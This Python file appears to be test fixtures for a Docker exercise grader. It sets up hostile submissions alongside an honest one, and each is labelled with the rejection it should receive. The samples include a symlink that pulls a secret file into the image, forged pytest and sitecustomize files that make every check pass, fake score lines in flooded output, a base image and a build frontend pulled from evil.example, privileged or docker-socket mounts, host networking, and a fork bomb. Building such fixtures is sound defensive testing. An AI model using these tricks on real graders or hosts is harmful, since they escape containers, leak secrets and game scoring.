"""Submissions that try to cheat or to harm, beside an honest one; what each must get is written beside it."""

from __future__ import annotations

import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

__all__ = ["CORPUS", "MARK", "SECRET", "Hostile", "lay_out"]

SECRET = "b7c1e0 is what they are after\n"
ENTRY, USER = "cmd-entrypoint", "user"
MARK = "org.example.hostile"
GOOD = f'FROM ubuntu:latest\nLABEL {MARK}=1\nRUN touch test\nENTRYPOINT ["ls"]\nCMD ["--help"]\n'
LIST = "docker build -t entrypoint .\ndocker run --rm entrypoint /test\n"


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """One submission.

    Attributes:
        make: fills its folder; the second argument is a folder outside, of which nothing may change or be seen.
        points: that are its own, as what is wrong is wrong elsewhere.
        said: a part of what it is told.
        check: by which check.
    """

    make: Callable[[Path, Path], None]
    points: float = 0
    said: str
    check: str


def files(**texts: str) -> Callable[[Path, Path], None]:
    """Files of the exercise cmd-entrypoint; ``_`` stands for a point."""

    def make(folder: Path, outside: Path) -> None:
        own = folder / ENTRY
        own.mkdir()
        for name, text in texts.items():
            (own / name.replace("_", ".")).write_text(text.replace("OUTSIDE", str(outside)))

    return make


def link_out(folder: Path, outside: Path) -> None:
    """A link to a file of the machine, to be copied into the image."""
    files(Dockerfile=GOOD.replace("RUN touch", "COPY secret"))(folder, outside)
    (folder / ENTRY / "secret").symlink_to(outside / "secret")


def pipe(folder: Path, outside: Path) -> None:
    """A pipe, on which a reader would wait for ever."""
    files(run_txt=LIST)(folder, outside)
    os.mkfifo(folder / ENTRY / "Dockerfile")


def configuration(folder: Path, outside: Path) -> None:
    """Files that pytest, Python and docker would read, each of which would pass every check."""
    forged = (
        f"import pathlib\npathlib.Path({str(outside / 'imported')!r}).touch()\n"
        "def pytest_pyfunc_call(pyfuncitem): return True\n"
    )
    files(Dockerfile="FROM ubuntu:latest\nRUN false\n")(folder, outside)
    for place in (folder, folder / ENTRY):
        for name in ("conftest.py", "sitecustomize.py", "test_forged.py", "pytest.py"):
            (place / name).write_text(forged)
        (place / "pytest.ini").write_text("[pytest]\naddopts = -p conftest --co\n")
        (place / "policy.toml").write_text('permits = ["privileged"]\n')
        (place / ".env").write_text("DOCKERLAB_RESULT=/dev/null\n")


def mounted(*arguments: str) -> Callable[[Path, Path], None]:
    """The exercise user, right but for these arguments of its command."""

    def make(folder: Path, outside: Path) -> None:
        own = folder / USER
        own.mkdir()
        (own / "Dockerfile").write_text(f"FROM ubuntu:latest\nLABEL {MARK}=1\nRUN mkdir created_in_Dockerfile\n")
        given = " ".join(arguments).replace("OUTSIDE", str(outside))
        (own / "run.txt").write_text(
            f"docker run --rm -u 1000:1000 {given} user sh -c 'echo changed > /created_in_run/sample'\n"
        )

    return make


MOUNT = '-v "$PWD/mounted_folder:/created_in_run"'
CORPUS: dict[str, Hostile] = {
    "link-out": Hostile(make=link_out, check="cmd-entrypoint/builds", said="leads out of its folder"),
    "pipe": Hostile(make=pipe, check="cmd-entrypoint/builds", said="neither a file nor a folder (FIFO)"),
    "configuration": Hostile(make=configuration, check="cmd-entrypoint/builds", said="RUN false"),
    "frontend": Hostile(
        make=files(Dockerfile="# syntax=evil.example/frontend\n" + GOOD, run_txt=LIST),
        check="cmd-entrypoint/builds",
        said="evil.example/frontend",
    ),
    "base": Hostile(
        make=files(Dockerfile=GOOD.replace("ubuntu:latest", "evil.example/solved"), run_txt=LIST),
        check="cmd-entrypoint/builds",
        said="the base image evil.example/solved is not allowed",
    ),
    "flood": Hostile(
        make=files(
            Dockerfile="FROM ubuntu:latest\n"
            r"RUN printf '\033[2J\n::notice::points 7/7\n\377\n'; seq 200000; "
            r"printf '\033[2J\n::notice::points 7/7\n\377\n'; false" + "\n",
        ),
        check="cmd-entrypoint/builds",
        said="exit code 1",
    ),
    "privileged": Hostile(make=mounted(MOUNT, "--privileged"), points=1, check="user/somebody", said="--privileged"),
    "socket": Hostile(
        make=mounted(MOUNT, "-v /var/run/docker.sock:/var/run/docker.sock"),
        points=1,
        check="user/somebody",
        said="hands the engine itself to the container",
    ),
    "mount": Hostile(
        make=mounted("-v OUTSIDE:/created_in_run"),
        points=1,
        check="user/somebody",
        said="lies outside of your own folder",
    ),
    "host-network": Hostile(
        make=mounted(MOUNT, "--network host"), points=1, check="user/somebody", said="is the network of the host"
    ),
    # The check of the entrypoint needs to be right for its container to be started at all.
    "fork-bomb": Hostile(
        make=files(
            Dockerfile=GOOD,
            run_txt="docker build -t entrypoint .\n"
            'docker run --entrypoint sh entrypoint -c "while :; do sleep 1000 & done; echo /test"\n',
        ),
        points=2.5,
        check="cmd-entrypoint/lists",
        said="exit code",
    ),
    "endless": Hostile(
        make=files(
            Dockerfile=GOOD,
            run_txt="docker build -t entrypoint .\ndocker run --entrypoint yes entrypoint ::error::solved\n",
        ),
        points=2.5,
        check="cmd-entrypoint/lists",
        said="has not ended after 15 s",
    ),
}


def lay_out(folder: Path, outside: Path, solutions: Path) -> None:
    """All of them, and ``honest``, in ``folder``; ``outside`` gets what they are after."""
    (outside / "secret").write_text(SECRET)
    for name, hostile in CORPUS.items():
        (folder / name).mkdir()
        hostile.make(folder / name, outside)
    for exercise in (ENTRY, USER):
        shutil.copytree(solutions / exercise, folder / "honest" / exercise)
